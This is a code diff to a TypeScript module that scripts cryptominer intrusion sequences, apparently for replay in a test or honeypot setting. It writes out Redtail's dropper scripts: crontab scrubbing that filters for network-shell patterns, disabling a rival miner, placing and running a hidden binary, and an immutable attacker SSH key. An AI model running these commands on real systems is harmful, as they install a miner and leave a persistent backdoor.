@@ -29,6 +29,56 @@ const dota = gzipSync(
   ]),
 )
 
+/** Takes everybody else's jobs out of the crontabs. */
+const clean = [
+  '#!/bin/bash',
+  'clean_crontab() {',
+  '  chattr -ia "$1"',
+  '  grep -vE "wget|curl|/dev/tcp|/tmp|\\.sh|nc|bash -i|sh -i|base64 -d" "$1" > /tmp/clean_crontab',
+  '  mv /tmp/clean_crontab "$1"',
+  '}',
+  'systemctl disable c3pool_miner',
+  'systemctl stop c3pool_miner',
+  'chattr -ia /var/spool/cron/crontabs',
+  'for user_cron in /var/spool/cron/crontabs/*; do',
+  '  [ -f "$user_cron" ] && clean_crontab "$user_cron"',
+  'done',
+  'for f in /etc/crontab; do clean_crontab "$f"; done',
+  'echo cleaned',
+]
+/** Finds a folder where it may write and run, and puts the right one of its binaries there. */
+const setup = [
+  '#!/bin/bash',
+  'NOARCH=false',
+  'ARCH=$(uname -mp)',
+  'if echo "$ARCH" | grep -q "x86_64"; then',
+  '  ARCH=x86_64',
+  'elif echo "$ARCH" | grep -q aarch64; then',
+  '  ARCH=aarch64',
+  'else',
+  '  NOARCH=true',
+  'fi',
+  "NOEXEC_DIRS=$(cat /proc/mounts | grep noexec | awk '{print $2}')",
+  'EXCLUDE=""',
+  'for dir in $NOEXEC_DIRS; do',
+  '  EXCLUDE="$EXCLUDE -not -path \\"$dir\\" -not -path \\"$dir/*\\""',
+  'done',
+  'FOLDERS=$(eval find / -maxdepth 3 -type d -user $(whoami) -perm -u=rwx -not -path \\"/tmp/*\\" -not -path \\"/proc/*\\" $EXCLUDE 2>/dev/null)',
+  'CURR=$PWD',
+  'FILENAME=".redtail"',
+  'for i in $FOLDERS /tmp /var/tmp /dev/shm; do',
+  '  if cd "$i" && touch .testfile && (dd if=/dev/zero of=.testfile2 bs=2M count=1 >/dev/null 2>&1 || truncate -s 2M .testfile2 >/dev/null 2>&1); then',
+  '    rm -rf .testfile .testfile2',
+  '    break',
+  '  fi',
+  'done',
+  'rm -rf .redtail',
+  'cat "$CURR/redtail.$ARCH" >$FILENAME',
+  'chmod +x $FILENAME',
+  './$FILENAME ssh',
+  'echo placed $ARCH in $PWD',
+]
+
 export const miners: Sequence[] = [
   {
     name: 'Outlaw: what it asks first, and the key it leaves',
@@ -118,8 +168,8 @@ export const miners: Sequence[] = [
     name: 'Redtail: uploaded scripts that clean up, choose a binary, leave a key',
     how: 'exec',
     lines: [
-      'printf \'#!/bin/bash\\nclean_crontab() {\\n  chattr -ia "$1"\\n  grep -vE "wget|curl|/dev/tcp|/tmp|\\\\.sh|nc|bash -i|sh -i|base64 -d" "$1" >/tmp/clean_crontab\\n  mv /tmp/clean_crontab "$1"\\n}\\nsystemctl disable c3pool_miner\\nsystemctl stop c3pool_miner\\nchattr -ia /var/spool/cron/crontabs\\nfor user_cron in /var/spool/cron/crontabs/*; do\\n  [ -f "$user_cron" ] && clean_crontab "$user_cron"\\ndone\\nfor f in /etc/crontab; do clean_crontab "$f"; done\\necho cleaned\\n\' > clean.sh; chmod +x clean.sh; bash clean.sh; rm -rf clean.sh',
-      'printf \'#!/bin/bash\\nNOARCH=false\\nARCH=$(uname -mp)\\nif echo "$ARCH" | grep -q "x86_64"; then\\n  ARCH=x86_64\\nelif echo "$ARCH" | grep -q aarch64; then\\n  ARCH=aarch64\\nelse\\n  NOARCH=true\\nfi\\nNOEXEC_DIRS=$(cat /proc/mounts | grep noexec | awk "{print \\\\$2}")\\nEXCLUDE=""\\nfor dir in $NOEXEC_DIRS; do EXCLUDE="${EXCLUDE} -not -path \\\\"$dir\\\\" -not -path \\\\"$dir/*\\\\""; done\\nFOLDERS=$(eval find / -maxdepth 3 -type d -user $(whoami) -perm -u=rwx -not -path "/tmp/*" -not -path "/proc/*" $EXCLUDE 2>/dev/null)\\nCURR=${PWD}\\nFILENAME=".redtail"\\nfor i in $FOLDERS /tmp /var/tmp /dev/shm; do\\n  if cd "$i" && touch .testfile && (dd if=/dev/zero of=.testfile2 bs=2M count=1 >/dev/null 2>&1 || truncate -s 2M .testfile2 >/dev/null 2>&1); then\\n    rm -rf .testfile .testfile2\\n    break\\n  fi\\ndone\\nrm -rf .redtail\\ncat "$CURR/redtail.$ARCH" >$FILENAME\\nchmod +x $FILENAME\\n./$FILENAME ssh\\necho placed $ARCH\\n\' > setup.sh',
+      `cat > clean.sh <<'SH'\n${clean.join('\n')}\nSH\nchmod +x clean.sh; bash clean.sh; rm -rf clean.sh`,
+      `cat > setup.sh <<'SH'\n${setup.join('\n')}\nSH`,
       `echo ${miner.toString('base64')} | base64 --decode > redtail.x86_64; chmod +x setup.sh; bash setup.sh; rm -rf setup.sh redtail.*`,
       `mkdir -p ~/.ssh; chattr -ia ~/.ssh/authorized_keys; echo "${key.replace('mdrfckr', 'rsa-key-20230629')}" > ~/.ssh/authorized_keys; chattr +ai ~/.ssh/authorized_keys; uname -a`,
       'lsattr ~/.ssh/authorized_keys; rm -f ~/.ssh/authorized_keys; echo x >> ~/.ssh/authorized_keys; tail -1 ~/.ssh/authorized_keys | cut -c1-3',
